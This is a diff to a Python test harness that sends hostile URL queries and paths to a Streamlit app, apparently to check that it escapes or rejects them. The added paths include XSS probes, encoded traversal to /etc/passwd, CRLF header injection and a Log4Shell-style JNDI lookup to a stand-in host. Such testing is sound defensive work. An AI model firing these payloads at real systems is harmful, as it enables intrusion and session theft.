@@ -64,13 +64,21 @@ def query(*pairs: tuple[str, str]) -> str:
     return "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in pairs)
 
 
-def shared_filter_queries(page_index: int, count: int = 12) -> list[str]:
-    """Markup in the shared filters (the sidebar quotes bad values back), a different slice
-    of the payloads on each page, and codes chained into one link."""
+def shared_filter_queries(page_index: int, count: int = 6) -> list[str]:
+    """Markup in the shared filters (the sidebar quotes bad values back): three payloads per
+    link, one in each filter, a different slice of the payloads on each page; then codes chained
+    into one link."""
     out = []
     for i in range(count):
-        payload = PAYLOADS[(page_index * 5 + i) % len(PAYLOADS)]
-        out.append(query((("years", "countries", "present")[i % 3], payload)))
+        first = page_index * 5 + i * 3
+        out.append(
+            query(
+                *(
+                    (name, PAYLOADS[(first + n) % len(PAYLOADS)])
+                    for n, name in enumerate(("years", "countries", "present"))
+                )
+            )
+        )
     return out + [
         # two codes chained into one link, a quoted fragment each (the probe's "SIGN IN")
         query(("countries", "KAZ"), ("countries", "[SIGN IN]("), ("countries", f"//{HOST})")),
@@ -80,10 +88,16 @@ def shared_filter_queries(page_index: int, count: int = 12) -> list[str]:
     ]
 
 
-def page_param_queries(path: str, count: int = 12) -> list[str]:
-    """Markup in the page's own URL-bound widgets (Streamlit drops values it does not know)."""
+def page_param_queries(path: str, count: int = 6) -> list[str]:
+    """Markup in the page's own URL-bound widgets (Streamlit drops values it does not know): two
+    widgets per link, each with its own payload."""
     params = PAGE_PARAMS[path]
-    return [query((params[i % len(params)], PAYLOADS[i % len(PAYLOADS)])) for i in range(count)]
+    out = []
+    for i in range(count):
+        slots = (2 * i, 2 * i + 1)
+        pairs = {params[k % len(params)]: PAYLOADS[k % len(PAYLOADS)] for k in slots}
+        out.append(query(*pairs.items()))
+    return out
 
 
 def abuse_queries() -> list[str]:
@@ -101,14 +115,14 @@ def abuse_queries() -> list[str]:
 
 
 def app_queries(path: str) -> list[str]:
-    """The hostile queries opened on one page (36)."""
+    """The hostile queries opened on one page (24, carrying 40 payloads or more)."""
     index = PAGES.index(path)
     return shared_filter_queries(index) + page_param_queries(path) + abuse_queries()
 
 
 def bad_paths(path: str) -> list[str]:
-    """Paths below a page, none of them a page (9): each answers the app's 404 "Page not
-    found", or 400 from Streamlit for traversal."""
+    """Paths below a page, none of them a page (20): each answers the app's 404 "Page not
+    found", or 400 from Streamlit for traversal. They cost a tenth of a page run each."""
     base = path.rstrip("/")
     return [
         f"{base}/extra",
@@ -120,6 +134,17 @@ def bad_paths(path: str) -> list[str]:
         f"{base}/_stcore/metrics",
         f"{base}/..%5c..%5cwindows",
         f"{base}/{quote(chr(0x202E) + 'txt.exe', safe='')}",
+        f"{base}/{quote('<script>window.__pwn=1</script>', safe='')}",
+        f"{base}/{quote('<svg onload=window.__pwn=1>', safe='')}",
+        f"{base}/{quote(chr(34) + ' onmouseover=window.__pwn=1 x=' + chr(34), safe='')}",
+        f"{base}/%252e%252e%252fetc%252fpasswd",
+        f"{base}/x%0d%0aSet-Cookie:%20cam=1",
+        f"{base}/{'a' * 2000}",
+        f"{base}/{quote('javascript:window.__pwn=1', safe='')}",
+        f"{base}/{quote('${jndi:ldap://ev.io/a}', safe='')}",
+        f"{base}/{quote('www.ev.io', safe='')}/x",
+        f"{base}/index.html/x",
+        f"{base}/{quote('# SIGN IN', safe='')}",
     ]
 
 
